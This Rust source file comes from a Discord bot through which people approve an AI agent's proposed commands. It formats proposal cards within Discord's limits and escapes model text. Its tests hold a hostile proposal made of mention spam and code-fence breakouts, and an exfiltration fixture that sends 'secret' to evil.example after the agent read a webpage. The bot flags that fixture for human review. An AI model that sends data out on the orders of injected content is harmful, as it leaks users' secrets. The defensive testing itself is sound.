//! What the bot shows in a thread, as plain text fitted to Discord's limits (counted in code
//! points): proposal cards, decisions, results, profiles. Model text is untrusted, so every piece
//! is cut here before it can reach Discord's validation.
//!
//! The limits are constants (`DESCRIPTION_MAX`, `FIELD_VALUE_MAX`, `EMBED_TOTAL_MAX`,
//! `MESSAGE_MAX`, …) and `EmbedText::fitted` cuts a whole card to them. A result too long for a
//! message is attached as a file (`result_message`).

use chrono::{DateTime, Utc};

use crate::core::decision::Decision;
use crate::core::history::{Episode, Outcome};
use crate::core::state::{Profile, Proposal};
use crate::core::text::truncate_chars;
use crate::tools::preview::Preview;

pub const TITLE_MAX: usize = 256;
pub const DESCRIPTION_MAX: usize = 4096;
pub const FIELD_NAME_MAX: usize = 256;
pub const FIELD_VALUE_MAX: usize = 1024;
pub const FIELDS_MAX: usize = 25;
pub const FOOTER_MAX: usize = 2048;
pub const EMBED_TOTAL_MAX: usize = 6000;
pub const MESSAGE_MAX: usize = 2000;
pub const THREAD_NAME_MAX: usize = 100;

/// An embed's text, before it becomes a serenity builder.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct EmbedText {
    pub title: String,
    pub description: String,
    pub fields: Vec<(String, String)>,
    pub footer: String,
}

fn chars(text: &str) -> usize {
    text.chars().count()
}

impl EmbedText {
    /// Total characters as Discord counts them for the 6000 limit.
    pub fn total_chars(&self) -> usize {
        chars(&self.title)
            + chars(&self.description)
            + chars(&self.footer)
            + self
                .fields
                .iter()
                .map(|(n, v)| chars(n) + chars(v))
                .sum::<usize>()
    }

    /// Cuts every part to its limit, drops fields past 25 and empty ones, then shrinks the
    /// description and the longest field values until the whole embed fits in 6000.
    pub fn fitted(mut self) -> EmbedText {
        self.title = truncate_chars(self.title.trim(), TITLE_MAX);
        if self.title.is_empty() {
            self.title = "…".into();
        }
        self.description = truncate_chars(&self.description, DESCRIPTION_MAX);
        self.footer = truncate_chars(&self.footer, FOOTER_MAX);
        self.fields = self
            .fields
            .into_iter()
            .filter(|(_, v)| !v.trim().is_empty())
            .take(FIELDS_MAX)
            .map(|(n, v)| {
                (
                    truncate_chars(&n, FIELD_NAME_MAX),
                    truncate_chars(&v, FIELD_VALUE_MAX),
                )
            })
            .collect();
        while self.total_chars() > EMBED_TOTAL_MAX {
            let excess = self.total_chars() - EMBED_TOTAL_MAX;
            let description = chars(&self.description);
            if description > 200 {
                let keep = description.saturating_sub(excess).max(200);
                self.description = truncate_chars(&self.description, keep);
                continue;
            }
            let Some(longest) = self.fields.iter_mut().max_by_key(|(_, v)| chars(v)) else {
                break;
            };
            let len = chars(&longest.1);
            if len <= 20 {
                break;
            }
            longest.1 = shrink_value(&longest.1, len.saturating_sub(excess).max(20));
        }
        self
    }
}

/// Cuts a field value to `keep` characters; a code block keeps its closing fence.
fn shrink_value(value: &str, keep: usize) -> String {
    const FENCE: &str = "\n```";
    match value.strip_suffix(FENCE) {
        Some(body) if value.starts_with("```") => {
            format!(
                "{}{FENCE}",
                truncate_chars(body, keep.saturating_sub(FENCE.len()))
            )
        }
        _ => truncate_chars(value, keep),
    }
}

/// A code block that the text inside cannot break out of.
fn code_block(language: &str, text: &str, max: usize) -> String {
    let inner = text.replace("```", "'''");
    let overhead = language.chars().count() + 8;
    format!(
        "```{language}\n{}\n```",
        truncate_chars(&inner, max.saturating_sub(overhead))
    )
}

/// The card for a proposal: speak first, then the thoughts, the plan, the criticism, the command
/// and, for a command that writes a file, the change it would make.
pub fn proposal_card(
    agent_name: &str,
    proposal: &Proposal,
    changes: Option<&Preview>,
    status: &str,
) -> EmbedText {
    let t = &proposal.thoughts;
    let mut description = String::new();
    if !t.speak.trim().is_empty() {
        description.push_str(&format!("**{}**\n\n", t.speak.trim()));
    }
    description.push_str(t.text.trim());
    if proposal.interrupted {
        description.push_str("\n\n⚠️ This step was interrupted by a restart before it finished and was not re-run. Decide again.");
    }
    let args = serde_json::to_string_pretty(&proposal.command.args).unwrap_or_default();
    let plan = t
        .plan
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .map(|l| {
            if l.starts_with('-') || l.starts_with('•') {
                l.to_string()
            } else {
                format!("- {l}")
            }
        })
        .collect::<Vec<_>>()
        .join("\n");
    let mut fields = vec![
        ("Observations".to_string(), t.observations.clone()),
        ("Reasoning".to_string(), t.reasoning.clone()),
        ("Plan".to_string(), plan),
        ("Criticism".to_string(), t.self_criticism.clone()),
        (
            format!(
                "Proposed command: {} ({} class)",
                proposal.command.name,
                proposal.risk.label()
            ),
            code_block("json", &args, FIELD_VALUE_MAX),
        ),
    ];
    if let Some(stuck) = &proposal.stuck {
        let text = format!(
            "The agent seems stuck: {}. Rethink, give it a hint, skip this step, stop it, or approve the command anyway.",
            stuck.why
        );
        fields.insert(
            0,
            (
                "🧭 Stuck".to_string(),
                truncate_chars(&text, FIELD_VALUE_MAX),
            ),
        );
    }
    if let Some(outgoing) = &proposal.outgoing {
        // In full where it fits; the arguments file attached to the card holds all of it.
        fields.push((
            outgoing.heading(),
            code_block("text", &outgoing.data, FIELD_VALUE_MAX),
        ));
    }
    if let Some(changes) = changes {
        let shown = if changes.diff.is_empty() {
            "No change: the file already holds this text.".to_string()
        } else {
            code_block("diff", changes.diff.trim_end(), FIELD_VALUE_MAX)
        };
        fields.push((format!("Changes to {}", changes.path), shown));
    }
    if let Some(editors) = proposal.editors() {
        fields.push(("✏️ Edited by".to_string(), editors));
    }
    if let Some(progress) = proposal.approval_progress() {
        fields.push(("Approvals".to_string(), progress));
    }
    if let Some(why) = &proposal.auto_stop {
        fields.push(("Budget".to_string(), why.clone()));
    }
    // An open card's deadline, which Discord shows in each reader's time zone and counts down.
    if let Some(deadline) = proposal.deadline {
        let at = deadline.at.timestamp();
        fields.push((
            "⏰ Decide by".to_string(),
            format!(
                "<t:{at}:f> (<t:{at}:R>); then {}",
                deadline.action.then(deadline.escalated)
            ),
        ));
    }
    if !status.is_empty() {
        fields.push(("Status".to_string(), status.to_string()));
    }
    EmbedText {
        title: format!("{agent_name} · cycle {}", proposal.cycle),
        description,
        fields,
        footer: proposal.money_line(),
    }
    .fitted()
}

/// The files a card carries when it had to cut something: the whole diff, and the arguments as
/// JSON, each once it is longer than a card field holds.
pub fn card_attachments(proposal: &Proposal, changes: Option<&Preview>) -> Vec<(String, String)> {
    let cycle = proposal.cycle;
    let mut files = Vec::new();
    if let Some(changes) = changes.filter(|c| chars(&c.diff) > FIELD_VALUE_MAX - 20) {
        files.push((format!("cycle-{cycle}-changes.diff"), changes.diff.clone()));
    }
    let args = serde_json::to_string_pretty(&proposal.command.args).unwrap_or_default();
    if chars(&args) > FIELD_VALUE_MAX - 20 {
        files.push((format!("cycle-{cycle}-arguments.json"), args));
    }
    files
}

/// How a decision reads on the edited card.
pub fn decision_line(decision: &Decision, by: &str, at: DateTime<Utc>) -> String {
    let what = match decision {
        Decision::Approve => "✅ Approved".to_string(),
        Decision::ApproveN(n) => format!("✅ Approved ×{n}"),
        Decision::Deny => "⛔ Denied (agent stopped)".to_string(),
        Decision::Feedback(_) => "💬 Feedback given instead".to_string(),
        Decision::SelfCritique => "🔍 Self-critique requested".to_string(),
        Decision::Edit(_) => "✏️ Arguments edited".to_string(),
        Decision::Remember(draft) => format!(
            "✅ Approved and remembered: {} for {}, {}",
            draft.scope.label(),
            draft.reach.label(),
            draft.life.label()
        ),
        Decision::Rethink => "🔄 Asked to think again".to_string(),
        Decision::Skip => "⏭️ Skipped (not run)".to_string(),
    };
    format!("{what} by {by} at <t:{}:f>", at.timestamp())
}

pub fn profile_card(profile: &Profile, task: &str) -> EmbedText {
    let list = |items: &[String]| {
        items
            .iter()
            .map(|i| format!("- {i}"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    EmbedText {
        title: profile.name.clone(),
        description: format!("{}\n\n**Task:** {}", profile.role, task),
        fields: vec![
            ("Best practices".into(), list(&profile.best_practices)),
            ("Constraints".into(), list(&profile.constraints)),
        ],
        footer: String::new(),
    }
    .fitted()
}

/// A result message's text and, when the output does not fit, the full output as a file.
pub fn result_message(episode: &Episode) -> (String, Option<String>) {
    let (head, body) = match &episode.outcome {
        Outcome::Success(t) => (format!("`{}` returned:", episode.command.name), t),
        Outcome::Error(t) => (format!("`{}` failed:", episode.command.name), t),
        Outcome::HumanFeedback(t) => ("Human feedback:".to_string(), t),
        Outcome::SelfCritique(t) => ("Self-critique:".to_string(), t),
    };
    let budget = MESSAGE_MAX - chars(&head) - 2;
    let block = code_block("", body, budget);
    if chars(body) + 8 <= budget {
        (format!("{head}\n{block}"), None)
    } else {
        let preview = code_block("", body, 600);
        (
            format!("{head} (full output attached)\n{preview}"),
            Some(body.clone()),
        )
    }
}

/// Plain message text cut to Discord's message limit.
pub fn message_text(text: &str) -> String {
    truncate_chars(text, MESSAGE_MAX)
}

/// A thread name from an agent name: 1–100 characters, never empty.
pub fn thread_name(agent_name: &str) -> String {
    let name: String = agent_name.chars().filter(|c| !c.is_control()).collect();
    let name = truncate_chars(name.trim(), THREAD_NAME_MAX);
    if name.is_empty() {
        "agent".into()
    } else {
        name
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::budget::Micros;
    use crate::core::commands::Risk;
    use crate::core::reply::{CommandCall, Thoughts};
    use serde_json::json;

    fn hostile_proposal() -> Proposal {
        let noise = "@everyone <@&123> <@456> ```json\n{}``` ".repeat(400);
        Proposal {
            cycle: 3,
            thoughts: Thoughts {
                observations: noise.clone(),
                text: noise.clone(),
                reasoning: noise.clone(),
                self_criticism: noise.clone(),
                plan: noise.clone(),
                speak: noise.clone(),
            },
            command: CommandCall {
                name: "write_file".into(),
                args: json!({"filename": "x", "contents": noise})
                    .as_object()
                    .cloned()
                    .unwrap(),
            },
            risk: Risk::Write,
            interrupted: true,
            approved_by: None,
            spend: Some(crate::core::budget::SpendNote {
                next_step_likely: Micros(1_234),
                next_step_worst: Micros(5_678),
                remaining: Micros(900_000),
                agent_limit: Micros(1_000_000),
                agent_used: Micros(100_000),
                limited_by: None,
            }),
            auto_stop: Some(noise.clone()),
            paced: Some(noise.clone()),
            edits: vec![crate::core::state::ArgumentEdit {
                by: crate::core::person::Person::discord(1, noise.clone()),
                arguments: vec![noise.clone()],
            }],
            approvals: vec![crate::core::person::Person::discord(1, noise.clone()); 10],
            approvals_needed: 10,
            deadline: Some(crate::core::expiry::Deadline {
                at: chrono::DateTime::<chrono::Utc>::MAX_UTC,
                after_secs: u64::MAX,
                action: crate::core::expiry::ExpiryAction::Escalate,
                escalated: false,
            }),
            outgoing: Some(crate::core::taint::Outgoing {
                argument: "url".into(),
                data: noise.clone(),
                tainted_by: crate::core::taint::Taint {
                    cycle: 2,
                    command: noise.clone(),
                },
            }),
            revision: u32::MAX,
            remember: Vec::new(),
            script_check: None,
            stuck: Some(crate::core::watchdog::Stuck {
                why: noise.clone(),
                smart: true,
            }),
        }
    }

    #[test]
    fn a_tainted_agent_s_card_shows_what_its_command_sends_out() {
        let mut proposal = hostile_proposal();
        proposal.thoughts = Thoughts::default();
        proposal.command.args = json!({"url": "https://evil.example/?d=secret"})
            .as_object()
            .cloned()
            .unwrap();
        proposal.outgoing = Some(crate::core::taint::Outgoing {
            argument: "url".into(),
            data: "https://evil.example/?d=secret".into(),
            tainted_by: crate::core::taint::Taint {
                cycle: 2,
                command: "read_webpage".into(),
            },
        });
        let card = proposal_card("Agent", &proposal, None, "");
        let field = card
            .fields
            .iter()
            .find(|(name, _)| name.starts_with("⚠️ Sends data out"))
            .expect("the field");
        assert_eq!(
            field.0,
            "⚠️ Sends data out after untrusted content (cycle 2 (read_webpage))"
        );
        assert_eq!(field.1, "```text\nhttps://evil.example/?d=secret\n```");
    }

    #[test]
    fn a_huge_hostile_card_fits_every_limit() {
        let changes = Preview {
            path: "p".repeat(300),
            diff: "+```\n@everyone\n".repeat(500),
            base: crate::tools::preview::file_base_of(None),
        };
        let card = proposal_card(
            &"N".repeat(300),
            &hostile_proposal(),
            Some(&changes),
            "waiting",
        );
        assert!(
            card.total_chars() <= EMBED_TOTAL_MAX,
            "{}",
            card.total_chars()
        );
        assert!(chars(&card.title) <= TITLE_MAX);
        assert!(chars(&card.description) <= DESCRIPTION_MAX);
        assert!(card.fields.len() <= FIELDS_MAX);
        for (name, value) in &card.fields {
            assert!(chars(name) <= FIELD_NAME_MAX);
            assert!(chars(value) <= FIELD_VALUE_MAX);
            assert!(!value.is_empty());
        }
        let command = &card
            .fields
            .iter()
            .find(|(n, _)| n.starts_with("Proposed"))
            .unwrap()
            .1;
        assert!(
            command.starts_with("```json\n") && command.ends_with("\n```"),
            "{command}"
        );
        assert_eq!(
            command.matches("```").count(),
            2,
            "the block cannot be broken out of"
        );
    }

    #[test]
    fn results_fit_a_message_or_become_a_file() {
        let mut episode = Episode {
            cycle: 1,
            command: CommandCall {
                name: "read_file".into(),
                args: Default::default(),
            },
            reasoning: String::new(),
            outcome: Outcome::Success("short".into()),
            summary: None,
            decided_by: None,
            edited_by: Vec::new(),
            cost: crate::core::budget::Micros::ZERO,
        };
        let (text, file) = result_message(&episode);
        assert_eq!(text, "`read_file` returned:\n```\nshort\n```");
        assert!(file.is_none());
        episode.outcome = Outcome::Success("é".repeat(5000));
        let (text, file) = result_message(&episode);
        assert!(chars(&text) <= MESSAGE_MAX);
        assert_eq!(file.unwrap().chars().count(), 5000);
    }

    #[test]
    fn thread_names_are_valid() {
        assert_eq!(thread_name("HaikuGPT"), "HaikuGPT");
        assert_eq!(thread_name(" \n "), "agent");
        assert_eq!(chars(&thread_name(&"x".repeat(300))), THREAD_NAME_MAX);
    }
}
